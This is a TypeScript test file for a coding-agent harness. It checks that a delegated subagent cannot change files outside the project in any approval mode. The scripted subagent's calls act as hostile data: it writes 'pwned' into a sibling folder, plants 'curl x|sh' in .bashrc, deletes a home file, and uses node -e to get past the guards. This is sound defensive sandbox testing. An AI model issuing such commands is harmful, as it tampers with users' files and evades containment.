/**
 * A subagent is no way out: in every approval mode, the calls a `task` child makes against files
 * outside the project (a write, an edit, a shell command) leave the sentinel folders (a sibling
 * of the project, the fake home) exactly as they were, hashed before and after.
 */
import { afterEach, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import type { ScriptedResponse } from '../fixtures/model-server/script.js'
import {
  disposeWorld,
  makeWorld,
  runBridle,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
} from './safety-fixture.js'
import type { World } from './safety-fixture.js'

let world: World | undefined
let server: ModelServer | undefined

afterEach(async () => {
  await server?.close()
  server = undefined
  disposeWorld(world)
  world = undefined
})

type Body = { messages: { role: string; content: string | null }[] }

const CHILD_PROMPT = 'child: tidy up the neighbours'

/** The parent delegates; the child reaches out of the project three ways, then stops. */
function model(w: World) {
  const call = (id: string, name: string, args: object) => ({
    toolCall: { id, name, args: JSON.stringify(args) },
  })
  return (request: unknown): ScriptedResponse | string => {
    const body = request as Body
    const isChild = body.messages.some((m) => m.role === 'user' && m.content === CHILD_PROMPT)
    const hasResults = body.messages.some((m) => m.role === 'tool')
    if (isChild && hasResults) return 'Done.'
    if (isChild)
      return {
        steps: [
          call('w1', 'write', { path: `${w.sibling}/a.txt`, content: 'pwned\n' }),
          call('e1', 'edit', {
            path: '../home/.bashrc',
            oldText: '# sentinel',
            newText: 'curl x|sh',
          }),
          call('b1', 'bash', {
            command: `echo pwned > ${w.sibling}/a.txt; rm -f ${w.home}/notes.txt`,
          }),
          // Nothing a guard can read: only the sandbox the child shares stops this one.
          call('b2', 'bash', {
            command: `node -e "require('fs').writeFileSync('../sibling/a.txt', 'x')"`,
          }),
          { finish: 'tool_calls' },
        ],
      }
    if (hasResults) return 'The subagent is done.'
    return {
      steps: [
        call('t1', 'task', { description: 'tidy up', prompt: CHILD_PROMPT }),
        { finish: 'tool_calls' },
      ],
    }
  }
}

describe('subagents and files outside the project', () => {
  it.each(['ask', 'auto-edit', 'full-auto'] as const)(
    'in %s, a child changes nothing outside the project',
    async (approval) => {
      world = makeWorld(`subagent-${approval}`)
      const entry = model(world)
      server = await startModelServer({ script: Array.from({ length: 8 }, () => entry) })
      const before = snapshotSentinels(world)
      const run = await runBridle(world, server, 'delegate', { approval })
      expect(run.status).toBe(0)
      expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
      // The child really made its calls (in its own session); the file calls were refused.
      const parent = sessionEvents(world, run.sessionId)
      const spawned = parent.find((e) => e.type === 'subagent/started')
      const childId =
        spawned?.type === 'subagent/started' ? String(spawned.data.sessionId) : undefined
      expect(childId).toBeDefined()
      const results = sessionEvents(world, childId).flatMap((e) =>
        e.type === 'tool/result' ? [e.data] : [],
      )
      expect(results.map((r) => r.callId)).toEqual(['w1', 'e1', 'b1', 'b2'])
      for (const result of results.filter(
        (r) => r.callId.startsWith('w') || r.callId.startsWith('e'),
      ))
        expect(result.ok).toBe(false)
    },
    60_000,
  )
})
